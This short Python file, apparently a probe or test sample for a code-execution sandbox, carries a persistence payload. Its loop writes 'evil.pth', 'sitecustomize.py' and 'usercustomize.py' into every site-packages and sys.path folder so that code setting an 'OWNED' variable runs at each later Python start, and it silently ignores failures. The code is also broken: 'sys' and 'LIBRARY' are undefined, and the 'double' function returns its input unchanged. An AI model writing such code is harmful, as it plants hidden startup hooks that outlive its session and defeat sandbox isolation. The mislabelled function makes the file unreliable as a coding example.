"""Leaves a .pth file, which Python runs at its next start."""
import glob

for folder in [*sys.path, *glob.glob("/**/site-packages", recursive=True), "/python/lib/python3.11", LIBRARY]:
    for name in "evil.pth", "sitecustomize.py", "usercustomize.py":
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write("import os; os.environ['OWNED'] = '1'\n")
        except OSError:
            pass


def double(x):
    return x
